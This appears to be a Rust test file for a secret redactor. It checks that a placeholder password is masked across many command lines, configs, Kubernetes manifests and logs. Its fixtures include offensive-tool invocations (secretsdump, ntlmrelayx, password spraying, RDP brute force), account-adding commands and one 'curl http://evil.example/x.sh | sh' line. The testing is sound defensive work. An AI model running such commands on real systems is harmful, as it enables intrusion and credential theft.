//! Tools and names, one line each: what goes and what stays.

use super::*;

fn both(text: &str) -> String {
    let masked = redactor().redact_text(text);
    assert_eq!(redactor().redact_text(&masked), masked);
    masked
}

/// What is wrong where the redactor should mask every `Dingo88!x` of a text and nothing else, whatever it calls it.
fn wrongs(secret: &[&str], honest: &[&str]) -> Vec<String> {
    let hides = |text: &&&str| {
        let masked = both(text);
        let kept = text.split("Dingo88!x").all(|kept| masked.contains(kept));
        (masked.contains("Dingo88") || !kept).then_some(masked)
    };
    let stays = |text: &&&str| Some(both(text)).filter(|masked| masked != **text);
    secret
        .iter()
        .filter_map(|text| hides(&text))
        .chain(honest.iter().filter_map(|text| stays(&text)))
        .collect()
}

#[test]
fn tools_and_consoles_are_known() {
    let secret = [
        "/var/ossec/bin/agent-auth -m 10.0.0.1 -P Dingo88!x -A web1",
        "ACL SETUSER eve on >Dingo88!x ~* +@all",
        "net use * https://h1.example/dav Dingo88!x /user:bob",
        r#"secretsdump.py corp/"bob":Dingo88!x@dc1"#,
        "root@h1:~# (echo Dingo88!x; echo Dingo88!x) | smbpasswd -s bob",
        "type=EXECVE a0=\"foo\" a1=\"-u\" a2=\"bob\" a3=\"-p\" a4=\"Dingo88!x\" type=CWD msg=audit(1.1:88): cwd=\"/root\"",
        "vault kv put secret/db ttl=1h value=Dingo88!x",
        "gcloud auth activate-refresh-token bob Dingo88!x",
        "virsh set-user-password vm1 root Dingo88!x",
        "virsh secret-set-value 5d1f Dingo88!x",
        "vsql -U bob -w Dingo88!x -d shop",
        "secret-tool store --label=x service y <<< Dingo88!x",
        "<Exec><Command>net.exe</Command>\n  <Arguments>user eve Dingo88!x /add</Arguments></Exec>",
        "&lt;Command&gt;net.exe&lt;/Command&gt;&lt;Arguments&gt;user eve Dingo88!x /add&lt;/Arguments&gt;",
        "apiVersion: v1\nkind: Secret\ndata:\n  cfg: Dingo88!x\nmetadata:\n  name: shop-config\n",
        "kind: Secret\nstringData:\n  cfg: \"Dingo88!x\"\n  more: Dingo88!x\n",
        r#"{"kind":"Event","requestObject":{"kind":"Secret","apiVersion":"v1","data":{"cfg":"Dingo88!x","b":"Dingo88!x"},"type":"Opaque"}}"#,
        r#"{"log":"{\"apiVersion\":\"v1\",\"data\":{\"cfg\":\"Dingo88!x\"},\"kind\":\"Secret\",\"metadata\":{\"name\":\"n1\"}}"}"#,
        "redis-cli ACL SETUSER eve on \">Dingo88!x\" allcommands",
        "HELLO 3 AUTH default Dingo88!x",
        "1.1 [0 203.0.113.5:5000] \"AUTH\" \"default\" \"Dingo88!x\"",
        "1.2 [0 203.0.113.5:5000] \"CONFIG\" \"SET\" \"requirepass\" \"Dingo88!x\"",
        "db.changeUserPassword(\"root\", \"Dingo88!x\")",
        "Autologon64.exe svc_kiosk CORP Dingo88!x /accepteula",
        "pspasswd.exe \\\\ws12 -u adm -p Dingo88!x bob Dingo88!x",
        "cpau -u corp\\adm -p Dingo88!x -ex notepad.exe",
        "nircmd.exe runas .\\adm Dingo88!x c:\\x\\a.exe",
        "net users eve Dingo88!x /add",
        "powershell Start-Process net -ArgumentList \"user eve Dingo88!x /add\"",
        "Start-Process net.exe -ArgumentList 'user','eve','Dingo88!x','/add'",
        "nxc smb 198.51.100.0/24 -u bob eve -p Dingo88!x Dingo88!x --continue-on-success",
        "bloodyAD --host dc1 -u bob -p Dingo88!x set password eve Dingo88!x",
        "ntlmrelayx.py -t ldap://dc1 --add-computer EVIL$ Dingo88!x",
        "crowbar -b rdp -s 198.51.100.4/32 -u adm -c Dingo88!x",
        "sqsh -S sql1 -U sa -P Dingo88!x -C \"select 1\"",
        "CORP\\svc_sql:CLEARTEXT:Dingo88!x",
        "[+] VALID LOGIN: bob@corp.local:Dingo88!x",
        "cf auth bob Dingo88!x",
        "gh secret set DEPLOY_KEY --body Dingo88!x --repo a/b",
        "aws secretsmanager create-secret --name x --secret-string Dingo88!x",
        "::add-mask::Dingo88!x",
        "kadmin -p admin/admin -q \"addprinc -pw Dingo88!x bob\"",
        "openssl dgst -sha256 -hmac Dingo88!x file.bin",
        "uci set wireless.default_radio0.key='Dingo88!x'; uci commit",
        "rootpw --plaintext Dingo88!x",
        "bindpw Dingo88!x",
        "d-i passwd/root-password password Dingo88!x",
        "curl -x bob:Dingo88!x@proxy:3128 https://h/",
        "http_proxy=bob:Dingo88!x@proxy:3128",
        "bob:Dingo88!x@db.corp.example:5432/x",
        "snmp-server user nms grp v3 auth sha Dingo88!x priv aes 128 Dingo88!x",
        "createUser nms SHA \"Dingo88!x\" AES \"Dingo88!x\"",
        "ip ospf authentication-key Dingo88!x",
        "ip ftp password 7 Dingo88!x",
        "local-user eve password irreversible-cipher Dingo88!x",
        "10.0.0.1 203.0.113.9 : PSK \"Dingo88!x\"",
        "exec.Command(\"mysql\", \"-pDingo88!x\", \"x\")",
        "Runtime.exec(new String[]{\"curl\",\"-u\",\"bob:Dingo88!x\",\"https://h\"})",
        "poetry config http-basic.priv bob Dingo88!x",
        "git config --global user.password Dingo88!x",
        "iscsiadm -m node -o update -n node.session.auth.password -v Dingo88!x",
        "check_snmp -H r1 -C Dingo88!x -o sysUpTime.0",
    ];
    let hex = "0123456789abcdef".repeat(4);
    assert_eq!(
        both(&format!("001 web1 10.0.0.5 {hex}")),
        "001 web1 10.0.0.5 [REDACTED:key]"
    );
    let honest = [
        "net use * https://h1.example/dav /user:bob /persistent:no",
        "vault kv put secret/db username=bob99 value=@db.json",
        "virsh list --all",
        "root@h1:~# (uname -a; echo Dingo88) | tee /tmp/x",
        "grep -c (x; (echo Dingo88) | sort",
        "kind: ConfigMap\ndata:\n  cfg: Dingo99\n",
        "ua: a kind: Secret\ndata:\n  cfg: Dingo99\n",
        "kind: Secret\nname: a\n---\nkind: ConfigMap\ndata:\n  cfg: Dingo99\n",
        r#"{"app":"shop","ua":"kind: Secret","data":{"srcip":"203.0.113.9","cmd":"curl http://evil.example/x.sh | sh"}}"#,
        r#"{"app":"shop","kind":"Secret","data":{"srcip":"203.0.113.9","cmd":"id"}}"#,
        r#"{"kind":"SecretList","data":{"cfg":"Dingo99"}}"#,
        r#"{"apiVersion":"v1","kind":"Secret","data":{"audit":{"user":"bob99"},"more":"Dingo99"}}"#,
        "the kind of Secret that data: holds",
        "<Exec><Command>net.exe</Command><Arguments>use h: \\\\srv1\\home</Arguments></Exec>",
        "git config --global user.name Dingo88!x",
        "ip addr add 10.0.0.2/24 dev eth0",
        "net users /domain",
        "nxc smb 198.51.100.4 -u bob --shares",
        "Start-Process notepad -ArgumentList \"user eve Dingo88 /add\"",
        "pspasswd \\\\ws12 bob",
        "acl list >out88",
        "GET /a?time=12:30@x HTTP/1.1",
        "exec.Command(\"ls\", \"-la\", \"/tmp\")",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
    let sums = format!("100 a.bin 4096 {hex}");
    assert_eq!(both(&sums), sums);
}

#[test]
fn names_and_signs_before_a_value_are_known() {
    let secret = [
        "bob logged in with password Dingo88!x from 203.0.113.9",
        "password:\n  Dingo88!x",
        "Username: eve\nPassword:\nDingo88!x\n",
        "Password ....... : Dingo88!x",
        "password -> Dingo88!x ok",
        "\"password\" : {\"value\" : \"Dingo88!x\"}",
        "\"password\",\"Dingo88!x\"",
        ".password(\"Dingo88!x\")",
        "withPassword(\"Dingo88!x\")",
        "passw0rd=Dingo88!x",
        "p@ssw0rd: Dingo88!x",
        "dbpw=Dingo88!x",
        "ldap_default_authtok = Dingo88!x",
        "GET /query?u=root&p=Dingo88!x&db=x HTTP/1.1",
    ];
    let guid = "99998888-7777-6666-5555-444433332222";
    for name in ["secret_id=", "SecretID:         ", "Secret ID    = ", "--setup-key "] {
        let masked = both(&format!("{name}{guid}"));
        assert!(masked.starts_with(&format!("{name}[REDACTED:")), "{masked}");
    }
    let honest = [
        "columns: password E-Mail9",
        "Password:\nLast login: Mon",
        "getPassword(\"Db88\")",
        "validatePassword(\"Db88\")",
        "{\"secretId\":\"prod/MyDb-1x\"}",
        "\"user\",\"password\",\"E-Mail\"",
        "std::password::Hasher88",
    ];
    assert_eq!(wrongs(&secret, &honest), [""; 0]);
}

#[test]
fn a_switch_far_behind_its_tool_is_its_own() {
    let tables = "orders ".repeat(100);
    let statement = "select a, b from c where d = 1; ".repeat(40);
    for text in [
        format!("mysqldump -h db shop {tables}-uroot -pDingo88!x"),
        format!("mysql -e \"{statement}\" -uroot -pDingo88!x"),
        format!("tar {tables}; mysqldump {tables} -pDingo88!x; x"),
    ] {
        assert_eq!(both(&text), text.replace("Dingo88!x", "[REDACTED:password]"));
    }
    for honest in [
        format!("mysqldump shop {tables}; cp -pDingo88 x"),
        format!("mysqldump shop {tables}| tar -pDingo88 x"),
        format!("mysql -e \"{statement}\"; cp -pDingo88 \"x\""),
    ] {
        assert_eq!(both(&honest), honest);
    }
}

#[test]
fn a_program_and_its_words_in_two_fields_are_one_command() {
    for (object, secret) in [
        (
            serde_json::json!({"command": ["mysql"], "args": ["-uroot", "-pDingo88"]}),
            "Dingo88",
        ),
        (
            serde_json::json!({"executable": "/usr/bin/mysql", "params": "-uroot -pDingo88"}),
            "Dingo88",
        ),
        (
            serde_json::json!({"path": "C:\\Program Files\\x\\plink.exe", "arguments": "-pw Dingo88 bob@h"}),
            "Dingo88",
        ),
        (
            serde_json::json!({"apiVersion": "v1", "kind": "Secret", "data": {"cfg": "WnE4MWs="}, "stringData": {"a": "b c"}}),
            "WnE4MWs=",
        ),
        (
            serde_json::json!({"command": "PASS", "command_data": "Dingo88"}),
            "Dingo88",
        ),
    ] {
        for neighbours in [false, true] {
            let mut value = serde_json::json!({ "data": object });
            if neighbours {
                redactor().redact_neighbours(&mut value);
            } else {
                redactor().redact_json(&mut value);
            }
            assert!(!value.to_string().contains(secret), "{value}");
            let once = value.clone();
            redactor().redact_json(&mut value);
            assert_eq!(value, once);
        }
    }
    for honest in [
        serde_json::json!({"command": ["tar"], "args": ["-p", "Dingo88"]}),
        serde_json::json!({"path": "/usr/bin/ls", "params": "-l -p Dingo88"}),
        serde_json::json!({"kind": "ConfigMap", "data": {"cfg": "WnE4MWs="}}),
        serde_json::json!({"kind": "Secret", "metadata": {"name": "shop-db"}, "type": "Opaque"}),
        serde_json::json!({"command": "USER", "command_data": "bob99"}),
    ] {
        let mut value = honest.clone();
        assert_eq!(redactor().redact_json(&mut value), 0, "{value}");
        assert_eq!(value, honest);
    }
}
